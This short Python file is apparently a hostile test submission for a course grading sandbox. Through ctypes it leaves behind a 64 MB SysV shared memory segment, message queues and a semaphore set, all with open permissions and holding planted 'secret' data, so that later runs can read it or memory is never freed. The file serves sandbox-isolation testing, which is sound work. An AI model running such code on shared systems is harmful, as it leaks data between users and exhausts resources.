# Hostile submission: leaves SysV shared memory (64 MB, written), a SysV message queue with a
# message, a semaphore set and a POSIX message queue, for the next run to read (or to keep the
# memory from ever being given back).
# answer: 42
import ctypes
import os

IPC_CREAT = 0o1000
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0x5EC12E7, 64 * 1024**2, IPC_CREAT | 0o666)
if segment >= 0:
    address = libc.shmat(segment, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(address, 0x41, 64 * 1024**2)
        ctypes.memmove(address, b"secret answers for the next student", 35)
        libc.shmdt(ctypes.c_void_p(address))
queue = libc.msgget(0x5EC12E8, IPC_CREAT | 0o666)
if queue >= 0:
    message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + 32)
    ctypes.memmove(message, ctypes.byref(ctypes.c_long(1)), ctypes.sizeof(ctypes.c_long))
    ctypes.memmove(ctypes.addressof(message) + ctypes.sizeof(ctypes.c_long), b"secret", 6)
    libc.msgsnd(queue, message, 6, 0)
libc.semget(0x5EC12E9, 4, IPC_CREAT | 0o666)
posix_queue = libc.mq_open(b"/courseportal-channel", os.O_CREAT | os.O_RDWR, 0o666, None)
if posix_queue >= 0:
    libc.mq_send(posix_queue, b"secret", 6, 0)
print("left", segment, queue, posix_queue)
